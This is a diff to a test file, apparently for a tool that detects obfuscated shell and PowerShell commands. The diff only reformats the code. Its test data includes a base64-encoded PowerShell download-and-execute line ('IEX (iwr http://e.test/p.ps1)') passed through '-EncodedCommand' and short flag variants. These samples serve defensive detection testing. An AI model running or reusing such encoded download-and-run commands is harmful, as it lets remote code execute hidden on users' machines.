@@ -52,7 +52,9 @@ describe('decoded payloads', () => {
     const executes = ofKind(r, 'execute');
     expect(executes.some((e) => e.code.taints.includes('decoded'))).toBe(true);
     // The decoded program is analysed as shell: its own download-and-run is found.
-    expect(ofKind(r, 'execute').some((e) => e.code.taints.includes('download') && e.endpoint?.host === 'e.test')).toBe(true);
+    expect(
+      ofKind(r, 'execute').some((e) => e.code.taints.includes('download') && e.endpoint?.host === 'e.test'),
+    ).toBe(true);
   });
 
   it('inflates gzip carried in base64', async () => {
@@ -66,7 +68,10 @@ describe('decoded payloads', () => {
     const enc = Buffer.from('IEX (iwr http://e.test/p.ps1)', 'utf16le').toString('base64');
     for (const flag of ['-EncodedCommand', '-enc', '-e', '-ec']) {
       const r = await factsOf('shell', `pwsh -NoProfile ${flag} ${enc}\n`);
-      expect(ofKind(r, 'decode')[0]).toMatchObject({ scheme: 'utf16le-base64', decoded: 'IEX (iwr http://e.test/p.ps1)' });
+      expect(ofKind(r, 'decode')[0]).toMatchObject({
+        scheme: 'utf16le-base64',
+        decoded: 'IEX (iwr http://e.test/p.ps1)',
+      });
       expect(r.units.some((u) => u.lang === 'powershell' && u.origin === 'embedded')).toBe(true);
     }
   });
@@ -83,7 +88,7 @@ describe('decoded payloads', () => {
 describe('encodings that hide nothing', () => {
   it.each([
     ['base64 encoding (not decoding)', 'base64 -w0 image.png > image.b64\n'],
-    ['a newline ANSI-C string', "IFS=$'\\n'\nfor f in $(ls); do echo \"$f\"; done\n"],
+    ['a newline ANSI-C string', 'IFS=$\'\\n\'\nfor f in $(ls); do echo "$f"; done\n'],
     ['tr case conversion', "echo \"$NAME\" | tr '[:upper:]' '[:lower:]'\n"],
     ['printf with a newline', "printf 'done\\n'\n"],
   ])('%s', async (_label, code) => {
